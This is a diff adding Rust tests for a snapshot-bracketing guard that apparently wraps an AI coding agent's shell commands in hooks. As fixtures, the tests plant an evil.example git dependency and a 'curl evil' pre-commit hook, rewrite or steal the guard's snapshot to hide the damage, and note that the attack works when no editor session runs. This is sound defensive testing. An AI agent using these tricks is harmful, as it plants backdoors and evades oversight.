@@ -482,3 +482,167 @@ async fn a_standing_approval_revoked_from_the_terminal_no_longer_covers_a_hooks_
     assert_eq!(code, 2, "{stdout}\n{stderr}");
     client.shutdown().await;
 }
+
+/// A Claude Code `Bash` call of `command`, before or after the tool, with its tool call id.
+fn bash(root: &Path, post: bool, id: &str, command: &str) -> Value {
+    json!({ "session_id": "s1", "cwd": root,
+            "hook_event_name": if post { "PostToolUse" } else { "PreToolUse" },
+            "tool_name": "Bash", "tool_use_id": id, "tool_input": { "command": command } })
+}
+
+/// The snapshot files a hook left under `.git/autogate/doors/shell/`.
+fn snapshot_files(root: &Path) -> Vec<PathBuf> {
+    std::fs::read_dir(root.join(".git/autogate/doors/shell"))
+        .map(|dir| dir.filter_map(|e| e.ok().map(|e| e.path())).collect())
+        .unwrap_or_default()
+}
+
+/// What the attacker's command does: a git dependency in the manifest and a hook git runs.
+fn plant(root: &Path) {
+    std::fs::write(
+        root.join("Cargo.toml"),
+        format!("{CARGO}left-pad = {{ git = \"https://evil.example/x\" }}\n"),
+    )
+    .unwrap();
+    std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n").unwrap();
+}
+
+/// Then it covers its tracks: the snapshot on disk is swapped for one taken after the damage
+/// (the hook before a second command, `other_id`, takes it), so the damage looks like what
+/// was there before.
+async fn rewrite_snapshot(root: &Path, other_id: &str) {
+    let before = snapshot_files(root);
+    assert_eq!(before.len(), 1, "one snapshot on disk: {before:?}");
+    let hook = spawn_claude_hook(root, &bash(root, false, other_id, "true"), &[]);
+    assert_eq!(finish(hook).await.0, 0);
+    let fresh = snapshot_files(root)
+        .into_iter()
+        .find(|p| *p != before[0])
+        .unwrap();
+    std::fs::rename(fresh, &before[0]).unwrap();
+}
+
+fn bracket_failures(root: &Path) -> Vec<Value> {
+    std::fs::read_to_string(root.join(".git/autogate/audit.jsonl"))
+        .unwrap()
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|r| r["event"] == "failed" && r["rule"] == "invariant.bracketed_shell")
+        .collect()
+}
+
+/// The attacker's way around bracketing that a copy on disk cannot stop: the command rewrites
+/// the snapshot taken before it. While an editor session runs, the session holds the snapshot
+/// in its memory, and the hook after the command checks against that copy: the damage is put
+/// back, and the rewrite is recorded, critical. A second keep under the same tool call id is
+/// refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_snapshot_rewritten_on_disk_is_not_believed_while_an_editor_session_holds_it() {
+    let dir = repo(&[("Cargo.toml", CARGO), ("src/lib.rs", "pub fn one() {}\n")]);
+    let root = root(&dir);
+    let client = TestClient::start(&root, helix_caps(), Value::Null).await;
+    socket_ready(&root).await;
+    let command = "sed -i s/x/y/ Cargo.toml";
+    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_9", command), &[]);
+    let (code, stdout, stderr) = finish(hook).await;
+    assert_eq!(code, 0, "{stdout}\n{stderr}");
+
+    plant(&root);
+    // Running the hook before the tool again under the same id is refused, and leaves the
+    // copy on disk as it was.
+    let on_disk = std::fs::read(&snapshot_files(&root)[0]).unwrap();
+    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_9", command), &[]);
+    let (code, _, stderr) = finish(hook).await;
+    assert_eq!(code, 2, "a second keep under one id: {stderr}");
+    assert!(stderr.contains("would not hold"), "{stderr}");
+    assert_eq!(std::fs::read(&snapshot_files(&root)[0]).unwrap(), on_disk);
+    rewrite_snapshot(&root, "toolu_10").await;
+
+    let hook = spawn_claude_hook(&root, &bash(&root, true, "toolu_9", command), &[]);
+    let (code, stdout, stderr) = finish(hook).await;
+    assert_eq!(code, 2, "{stdout}\n{stderr}");
+    assert!(stderr.contains("changed on disk while it ran"), "{stderr}");
+    assert_eq!(
+        read(&root, "Cargo.toml").as_deref(),
+        Some(CARGO),
+        "put back"
+    );
+    assert!(
+        !root.join(".git/hooks/pre-commit").exists(),
+        "the planted hook is removed"
+    );
+    let failures = bracket_failures(&root);
+    assert!(
+        failures.iter().any(|r| r["level"] == "critical"
+            && r["reasons"][0]
+                .as_str()
+                .unwrap()
+                .contains("changed on disk")),
+        "{failures:?}"
+    );
+    client.shutdown().await;
+
+    // The same attack with no session: the rewritten copy on disk is all there is, and it is
+    // believed (the limit `docs/security.md` states). This is what the session's copy closes.
+    let dir = repo(&[("Cargo.toml", CARGO), ("src/lib.rs", "pub fn one() {}\n")]);
+    let root = self::root(&dir);
+    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_11", command), &[]);
+    assert_eq!(finish(hook).await.0, 0);
+    plant(&root);
+    rewrite_snapshot(&root, "toolu_12").await;
+    let hook = spawn_claude_hook(&root, &bash(&root, true, "toolu_11", command), &[]);
+    let (code, stdout, stderr) = finish(hook).await;
+    assert_eq!(code, 0, "{stdout}\n{stderr}");
+    assert!(read(&root, "Cargo.toml").unwrap().contains("evil.example"));
+}
+
+/// Another process on the socket takes the session's copy of the snapshot (to make the hook
+/// after the command fall back to the copy on disk, which it rewrote): the hook after the
+/// command finds the key taken, stops the agent and records it, critical. Keeping a forged
+/// snapshot under the key instead is refused, whatever the forger says of the key.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_snapshot_taken_from_the_session_by_another_process_stops_the_agent() {
+    use tokio::io::{AsyncBufReadExt, BufReader};
+    let dir = repo(&[("Cargo.toml", CARGO)]);
+    let root = root(&dir);
+    let client = TestClient::start(&root, helix_caps(), Value::Null).await;
+    let socket = socket_ready(&root).await;
+    let hook = spawn_claude_hook(&root, &bash(&root, false, "toolu_7", "make"), &[]);
+    assert_eq!(finish(hook).await.0, 0);
+
+    let send = |line: Value| {
+        let socket = socket.clone();
+        async move {
+            let mut stream = tokio::net::UnixStream::connect(&socket).await.unwrap();
+            stream
+                .write_all(format!("{line}\n").as_bytes())
+                .await
+                .unwrap();
+            let mut answer = String::new();
+            BufReader::new(stream).read_line(&mut answer).await.unwrap();
+            serde_json::from_str::<Value>(&answer).unwrap()
+        }
+    };
+    let key = "claude-code\u{0}toolu_7";
+    let forged = json!({ "snapshot": { "op": "keep", "key": key, "snapshot": { "git": false }, "once": false } });
+    assert_eq!(send(forged.clone()).await["answer"], "refused");
+    let taken = send(json!({ "snapshot": { "op": "take", "key": key } })).await;
+    assert_eq!(taken["answer"], "taken", "{taken}");
+    assert_eq!(taken["snapshot"]["git"], true);
+    assert_eq!(send(forged).await["answer"], "refused");
+    let garbage = send(json!({ "snapshot": { "op": "steal" } })).await;
+    assert_eq!(garbage["answer"], "refused", "{garbage}");
+
+    std::fs::write(root.join("Cargo.toml"), format!("{CARGO}evil = \"*\"\n")).unwrap();
+    let hook = spawn_claude_hook(&root, &bash(&root, true, "toolu_7", "make"), &[]);
+    let (code, stdout, stderr) = finish(hook).await;
+    assert_eq!(code, 2, "{stdout}\n{stderr}");
+    assert!(stderr.contains("taken by another process"), "{stderr}");
+    assert!(
+        bracket_failures(&root)
+            .iter()
+            .any(|r| r["level"] == "critical"),
+        "recorded"
+    );
+    client.shutdown().await;
+}
